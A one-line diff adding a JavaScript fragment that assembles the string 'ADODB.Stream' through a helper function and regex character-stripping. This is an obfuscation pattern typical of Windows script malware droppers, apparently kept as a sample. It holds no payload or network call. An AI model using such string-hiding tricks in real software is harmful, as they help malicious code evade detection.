@@ -1,0 +1,1 @@
+function k(a, b) {\n  return "ADODB.";\n}\nx = k(1, g(2)) + 'Strzeam'.replace(new RegExp("z", "g"), '')
